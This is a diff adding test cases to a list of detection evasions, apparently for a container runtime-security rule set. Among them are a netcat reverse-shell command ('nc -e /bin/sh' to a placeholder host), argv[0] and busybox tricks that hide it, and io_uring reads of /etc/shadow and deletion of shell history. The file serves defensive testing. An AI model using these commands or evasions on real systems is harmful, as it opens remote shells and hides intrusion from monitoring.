@@ -142,6 +142,17 @@ EVASIONS = [
     Evasion("io-uring-openat", SENSITIVE, evade("uring-open", "/etc/shadow"), "fd.name",
             "/etc/shadow", evade("uring-open", "/etc/passwd"),
             opened_by("/etc/passwd", "uring-open", "/etc/passwd")),
+    # a busybox applet is chosen by argv[0] (or argv[1] after "busybox"), not by the path
+    # exec'd or the comm the kernel gives it: /bin/sh run as "nc" is nc; `busybox sh` is sh
+    Evasion("busybox-applet-by-argv0", "Netcat remote code execution in container",
+            evade("argv0", "nc", "/bin/sh", "-w", "1", "-e", "/bin/sh", NOWHERE, "4445"),
+            "proc.cmdline", f"nc -w 1 -e /bin/sh {NOWHERE} 4445",
+            evade("argv0", "nc", "/bin/sh", "-w", "1", NOWHERE, "4445"),
+            execd("nc", "-w", "1", NOWHERE, "4445")),
+    Evasion("busybox-sh-by-name", "Shell spawned by non-shell in container",
+            Scenario(("sleep", "30"), execs=(("busybox", "sh", "-c", "true"),)), "proc.name",
+            "sh", Scenario(("sleep", "30"), execs=(("busybox", "true"),)),
+            execd("busybox", "true")),
     # ring path operations (an io_uring rootkit's spellings): the same records as the syscalls
     Evasion("io-uring-unlinkat", HISTORY, sh(HISTORY_SH + "uring-unlink /root/.ash_history"),
             "fd.name", "/root/.ash_history", sh(NOTES_SH + "uring-unlink /tmp/notes"),
